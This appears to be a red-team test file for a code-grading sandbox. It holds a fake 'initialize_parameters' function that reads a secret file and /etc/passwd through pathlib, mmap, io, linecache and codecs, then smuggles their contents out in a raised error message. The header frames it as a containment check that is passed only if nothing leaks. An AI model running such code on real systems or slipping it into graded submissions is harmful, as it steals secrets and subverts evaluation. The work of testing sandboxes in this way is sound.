# RED-TEAM ATTACK (issue 9): read files through pathlib, mmap, io, linecache and codecs.
# Route: each of these opens files its own way (mmap maps a descriptor, linecache reads any path a
#   traceback might need); the secret file and /etc/passwd, carried out in the error message.
# Contained when: none of it reaches the report, and initialize_parameters scores 0.
# attacked: initialize_parameters
# run: batch
import codecs
import io
import linecache
import mmap
import os
import pathlib

LEAK = "REDTEAM" + "-LEAK: "


def _mmap(path):
    fd = os.open(path, os.O_RDONLY)
    try:
        return mmap.mmap(fd, 0, prot=mmap.PROT_READ)[:400].decode()
    finally:
        os.close(fd)


def initialize_parameters(n_x, n_h, n_y):
    loot = []
    readers = (
        lambda: pathlib.Path("__SECRET_FILE__").read_text(),
        lambda: pathlib.Path("/etc/passwd").read_bytes()[:200].decode(),
        lambda: _mmap("__SECRET_FILE__"),
        lambda: io.FileIO("__SECRET_FILE__").read().decode(),
        lambda: linecache.getline("__SECRET_FILE__", 1),
        lambda: codecs.open("/etc/passwd", encoding="utf-8").read(200),
    )
    for read in readers:
        try:
            text = read()
            if text:
                loot.append(text)
        except Exception:
            pass
    if loot:
        raise RuntimeError(LEAK + " || ".join(loot))
    raise RuntimeError("nothing readable")
